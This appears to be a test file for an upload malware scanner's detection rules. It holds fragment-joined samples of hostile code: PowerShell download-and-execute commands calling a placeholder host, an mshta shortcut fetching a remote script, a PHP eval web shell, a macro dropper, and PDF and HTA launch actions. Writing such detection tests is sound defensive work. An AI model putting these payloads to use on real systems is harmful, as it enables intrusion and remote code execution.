import { readdir, readFile } from 'node:fs/promises';
import fc from 'fast-check';
import { Document, Packer, Paragraph } from 'docx';
import { PDFDocument } from 'pdf-lib';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawZip } from '../../testing/raw-zip.ts';
import { bufferSource } from '../zip/index.ts';
import { embeddedScanner } from './embedded.ts';
import { EICAR, type Scanner } from './index.ts';

let scanner: Scanner;
beforeAll(async () => {
  scanner = await embeddedScanner({
    rulesDirectory: '/nonexistent',
    idleMs: null,
    log: pino({ level: 'silent' }),
  });
});
afterAll(() => scanner.close());

const scan = (bytes: Uint8Array | string) => scanner.scan(bufferSource(Buffer.from(bytes)));
const wide = (text: string) => Buffer.from(text, 'utf16le');
const joined = (...parts: string[]) => parts.join('');
/** 'Equation.3' in the encoding of \objdata */
const EQUATION = Buffer.from('Equation.3').toString('hex');
const SHORTCUT = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');

/**
 * A text for each shipped rule that matches it. The texts are joined from pieces, so that this file matches no rule.
 */
const harmful: Record<string, Uint8Array | string> = {
  EICAR_Test_File: EICAR,
  GTUBE_Test_Mail: joined('XJS*C4JDBQADN1.NSBN3*2IDNEN*', 'GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X'),
  ClamAV_Test_File: Buffer.from(
    'bb7110400033c050508bf3535350b02940300466ac79f9ba3100780dad50ff66700e1f',
    'hex',
  ),
  Office_Macro_Dropper: joined(
    'VBA\0Attribut\0e VB_Name\nSub Document_',
    'Open()\nSet x = CreateObject("MSXML2.',
    'XMLHTTP")\nCreateObject("WScript.',
    'Shell").Run f',
  ),
  RTF_Equation_Editor_Object: joined(
    '{\\rtf1{\\object\\objemb\\obj',
    'update{\\*\\obj',
    `data 0105 ${EQUATION}}}}`,
  ),
  Office_Diagnostic_Tool_Link: joined(
    'location.href = "ms-',
    'msdt:/id PCWDiagnostic /param IT_Browse',
    'ForFile=x"',
  ),
  PDF_Launch_Command: joined(
    '%PDF-1.4\n<< /Type /Action /S /Lau',
    'nch /Win << /F (cmd',
    '.exe) /P (/c calc) >> >>',
  ),
  PDF_Opens_Attachment: joined(
    '%PDF-1.4\n/JavaScript (this.exportData',
    'Object({ cName: "x", nLaunch: 2 }))',
  ),
  HTA_Starts_Program: joined(
    '<hta:',
    'application><script>new ActiveXObject("WScript',
    '.Shell").Run("cmd /c calc")',
  ),
  Script_Downloads_And_Runs: joined(
    'var s = new ActiveXObject("WScript',
    '.Shell"); var h = new ActiveXObject("MSXML2',
    '.XMLHTTP"); var a = new ActiveXObject("ADODB',
    '.Stream"); a.SaveTo',
    'File(p)',
  ),
  PowerShell_Hidden_Download: joined(
    'powershell -NoP -w hid',
    'den -c "IEX (New-Object Net.WebClient).Download',
    "String('http://x')\"",
  ),
  PowerShell_Encoded_Command: joined(
    'powershell.exe -nop -enc ',
    wide("(New-Object Net.WebClient).DownloadString('http://x')").toString('base64'),
  ),
  Shortcut_Starts_Script: Buffer.concat([
    SHORTCUT,
    wide(joined('C:\\Windows\\mshta', '.exe https', '://x/y.hta')),
  ]),
  PHP_Request_Shell: joined('<?php @ev', 'al(base64_decode($_PO', 'ST["x"])); ?>'),
};

const ruleTexts = async () => {
  const folder = new URL('../../../rules/', import.meta.url);
  return Promise.all((await readdir(folder)).map((name) => readFile(new URL(name, folder), 'utf8')));
};
const ruleNames = async () =>
  (await ruleTexts()).flatMap((text) => [...text.matchAll(/^rule (\w+)/gm)].map(([, name]) => name));

describe('the shipped rules', () => {
  it('the rules are plain texts without offsets and sizes, so that files can be joined', async () => {
    const rules = (await ruleTexts()).join('\n').replaceAll(/^\s*\/\/.*$/gm, '');
    const patterns = [...rules.matchAll(/^\s*\$\w+ = (.)/gm)].map(([, first]) => first);
    expect(patterns.length).toBeGreaterThan(50);
    expect(patterns.filter((first) => first !== '"' && first !== '{')).toEqual([]);
    const conditions = rules
      .split('condition:')
      .slice(1)
      .map((text) => text.split('}', 1)[0]?.trim());
    for (const condition of conditions) {
      expect(condition).toMatch(
        /^(all of them|(\$\w+|any of \(\$\w+\*\))( and (\$\w+|any of \(\$\w+\*\)))*)$/,
      );
    }
  });

  it('every shipped rule is tested in this file', async () => {
    expect(new Set(await ruleNames())).toEqual(new Set(Object.keys(harmful)));
  });

  it.each(Object.entries(harmful))('UPLOAD-32 %s finds its pattern', async (signature, sample) => {
    expect(await scan(sample)).toEqual({ status: 'VIRUS', signature });
    expect(await scan(rawZip([{ name: 'x', content: sample, method: 8 }]))).toMatchObject({
      status: 'VIRUS',
    });
  });

  it('UPLOAD-32 the rules match with any bytes around, because files can be joined', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...Object.entries(harmful)),
        fc.uint8Array({ maxLength: 3000 }),
        fc.uint8Array({ maxLength: 3000 }),
        async ([, sample], before, behind) => {
          const gap = Buffer.alloc(16);
          const bytes = Buffer.concat([before, gap, Buffer.from(sample), gap, behind]);
          expect(await scan(bytes)).toMatchObject({ status: 'VIRUS' });
        },
      ),
      { numRuns: 100 },
    );
  });

  it('UPLOAD-32 the shipped rules pass texts that only mention such patterns', async () => {
    const manual = Object.values(harmful).map((sample) =>
      Buffer.from(sample).toString('latin1').slice(0, 30),
    );
    expect(await scan(manual.join('\n'))).toEqual({ status: 'PASS' });
    expect(
      await scan('Open PowerShell and type Invoke-WebRequest https://example.test -OutFile setup.exe'),
    ).toEqual({ status: 'PASS' });
    const words =
      'VBA Attribute VB_Name AutoOpen Net.WebClient powershell mshta URLDownloadToFile WScript.Shell';
    expect(await scan(`An article on macro viruses: ${words}`)).toEqual({ status: 'PASS' });
    expect(await scan('Sub Workbook_Open()\nRange("A1").Select\nEnd Sub\nAttribute VB_Name = "VBA"')).toEqual(
      {
        status: 'PASS',
      },
    );
  });

  it('UPLOAD-32 the shipped rules pass ordinary documents', async () => {
    const word = await Packer.toBuffer(
      new Document({ sections: [{ children: [new Paragraph('Engagement letter for 2026')] }] }),
    );
    const pdf = await PDFDocument.create();
    pdf.addPage().drawText('Annual accounts');
    pdf.addJavaScript('greeting', 'app.alert("Please sign on page 3")');
    for (const bytes of [word, await pdf.save()]) expect(await scan(bytes)).toEqual({ status: 'PASS' });
  });
});
